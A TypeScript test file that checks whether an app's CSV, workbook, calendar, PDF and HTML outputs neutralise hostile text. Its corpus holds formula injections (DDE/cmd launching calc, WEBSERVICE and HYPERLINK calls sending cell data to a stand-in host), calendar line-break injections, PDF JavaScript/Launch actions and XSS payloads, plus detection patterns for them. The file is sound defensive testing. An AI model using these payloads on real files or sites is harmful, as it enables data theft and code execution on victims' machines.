// Hostile texts in everything that leaves the house as a file or page: read by something else than what wrote it.
import { unzipSync } from 'fflate';
import readExcel from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { exerciseCalendar } from '../../src/connectors/exercise-calendar.ts';
import { phoneListPdf } from '../../src/connectors/phone-list-pdf.ts';
import { tableFile } from '../../src/connectors/table-file.ts';
import { linkPage } from '../../src/http/answer-link-page.ts';
import { textsFor } from '../../src/texts/index.ts';
import { payloads } from '../cards/payloads.ts';
import { counted } from './counted.ts';

/** What a spreadsheet program would reckon, call or open. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://boese.example?x="&A1,"Hier")',
  '=WEBSERVICE("https://boese.example/"&A1)',
  '=IMPORTXML("https://boese.example","//a")',
  '=DDE("cmd";"/C calc";"1")',
  '+1+1',
  '+49 511 555',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '";=1+1;"',
  '",=1+1,"',
  '"\r\n=1+1\r\n"',
  '\u0000=1+1',
  "%0A-3+3+cmd|' /C calc'!D2",
  'a;b\r\n=1+1;c',
  '=1+1\uFEFF',
  '\uFEFF=1+1',
];
/** What ends a line, a field or an element somewhere. */
const breaks = [
  '\r\nBEGIN:VEVENT\r\nSUMMARY:Falsch\r\nEND:VEVENT',
  '\nATTENDEE:mailto:x@boese.example',
  '\\nATTACH:https://boese.example/x',
  ';X-EVIL=1:',
  '\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nEND:VALARM',
  ') Tj ET /JavaScript (app.alert(1)) BT (',
  ')>> endobj 1 0 obj <</Type/Action/S/Launch/F(calc)>>',
  '"><script>window.hit=1</script>',
  '"><input name=answer value=coming>',
  "' onmouseover='window.hit=1",
  '" autofocus onfocus="window.hit=1',
  '</title></style></textarea><script>1</script>',
  '<meta http-equiv=refresh content="0;url=https://boese.example">',
  '<form action=https://boese.example><button>',
  '<base href=https://boese.example>',
  '&lt;script&gt;',
  '<!--',
  '<![CDATA[<script>1</script>]]>',
];
const corpus = [...payloads.map(({ written }) => written), ...formulas, ...breaks];
const table = [['Kopf', 'Text', 'Ende'], ...corpus.map((text, at) => [`z${at}`, text, `e${at}`])];

/** RFC 4180, read by the letter. */
function csvRows(text: string, separator = ';'): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] as string;
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (sign === '"') isQuoted = true;
    else if (sign === separator) {
      rows.at(-1)?.push(cell);
      cell = '';
    } else if (sign === '\r' && text[at + 1] === '\n') {
      rows.at(-1)?.push(cell);
      cell = '';
      rows.push([]);
      at += 1;
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

test('the corpus is worth its name', () => {
  expect(new Set(corpus).size).toBeGreaterThanOrEqual(240);
  counted('hostile texts for files and pages', corpus.length);
});

describe('tables', () => {
  test('as CSV: as many rows and cells as were written, and none begins a formula', async () => {
    const text = (await tableFile(table, 'csv')).toString('utf8').replace(/^\uFEFF/, '');
    const rows = csvRows(text);
    expect(rows).toHaveLength(table.length);
    for (const [at, row] of rows.entries()) {
      expect([row.length, row[0], row[2]]).toEqual([3, table[at]?.[0], table[at]?.[2]]);
      // What is not drawn may be dropped by whoever reads it, and then the sign behind it comes first.
      expect(row[1]).not.toMatch(/^[=+\-@\p{Cc}\uFEFF\uFF0B\uFF0D\uFF1D\uFF20]/u);
      const written = table[at]?.[1]?.toWellFormed();
      expect([written, `'${written}`]).toContain(row[1]);
    }
  });

  test('as a workbook: no formula, no link, nothing outside; every cell is text', async () => {
    const file = await tableFile(table, 'xlsx');
    const parts = Object.entries(unzipSync(file)).map(([name, part]) => [name, Buffer.from(part).toString('utf8')]);
    for (const [name, text = ''] of parts) {
      expect([name, /<f[ >]|<hyperlink|externalLink|TargetMode="External"|vbaProject|<oleObject/.test(text)]).toEqual([
        name,
        false,
      ]);
    }
    const rows = await readExcel(file);
    const [first] = Array.isArray(rows) ? rows : [];
    const read = (first && 'data' in (first as object) ? (first as { data: unknown[][] }).data : rows) as unknown[][];
    expect(read).toHaveLength(table.length);
    for (const [at, row] of read.entries()) {
      expect([row[0], typeof row[1], row[2]]).toEqual([table[at]?.[0], 'string', table[at]?.[2]]);
    }
  });
});

test('a calendar: one entry for each row, with the lines that it should have and no other', () => {
  const row = { startsAt: null, duration: 90, from: '2026-12-01', to: '2026-12-18', cancelled: false, edits: 0 };
  const linesOf = (texts: readonly string[]) => {
    const rows = texts.map((text, at) => ({ ...row, id: `MI.${at}`, title: text, room: text, more: text }));
    const file = exerciseCalendar(rows, texts[0] ?? '', 0).toString('utf8');
    return file.replaceAll(/\r\n[ \t]/g, '').split('\r\n');
  };
  const names = (lines: readonly string[]) => lines.map((line) => line.replace(/[:;].*$/s, ''));
  const harmless = names(linesOf(corpus.map(() => 'Beispiel')));
  const lines = linesOf(corpus);
  expect(lines.filter((line) => /[\r\n]/.test(line))).toEqual([]);
  expect(names(lines)).toEqual(harmless);
});

test('a printed list: no script, no action, no file, no address in it, whatever somebody is called', async () => {
  const given = {
    domain: {
      id: 'MI-ITN',
      name: corpus[1] ?? '',
      authority: breaks[5] ?? '',
      callIn: { number: breaks[6] ?? '', pin: '' },
      room: breaks[5] ?? '',
    },
    version: 1,
    printedAt: 0,
    issue: null,
    rows: corpus.map((name) => ({ role: 'IT', rank: 0, name, numbers: [], ways: [], confirmedAt: null })),
  };
  const file = await phoneListPdf(given as unknown as Parameters<typeof phoneListPdf>[0], textsFor('de'));
  const text = file.toString('latin1');
  expect(text.startsWith('%PDF-')).toBe(true);
  const acts =
    /\/(JavaScript|JS|OpenAction|AA|Launch|URI|SubmitForm|ImportData|EmbeddedFile|RichMedia|GoToR|AcroForm)\b/;
  expect(acts.exec(text)?.[0]).toBeUndefined();
});

test('a page behind a link: the elements that it should have and no other, in any place', () => {
  const texts = textsFor('de');
  const shown = (text: string) => {
    const choice = { value: text, label: text };
    const page = {
      mark: text,
      isExercise: false,
      step: text,
      lines: [{ label: text, value: text }],
      noted: text,
      minutes: { label: text, options: [choice], chosen: '' },
      choices: [choice],
      hidden: { once: text },
    };
    return linkPage(page, texts, text, 'nonce');
  };
  /** Tags with the names of their attributes, as a browser would find them. */
  const shape = (html: string) =>
    [...html.matchAll(/<(\/?[a-z!][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*>/gi)].map(
      ([, tag, attributes = '']) => `${tag} ${attributes.replaceAll(/="[^"]*"/g, '')}`,
    );
  const harmless = shape(shown('Beispiel'));
  expect(harmless.length).toBeGreaterThan(20);
  for (const text of corpus) {
    const html = shown(text);
    expect(shape(html), text).toEqual(harmless);
    // Nothing opens an element but what is counted above.
    expect((html.match(/</g) ?? []).length, text).toBe(harmless.length);
  }
});
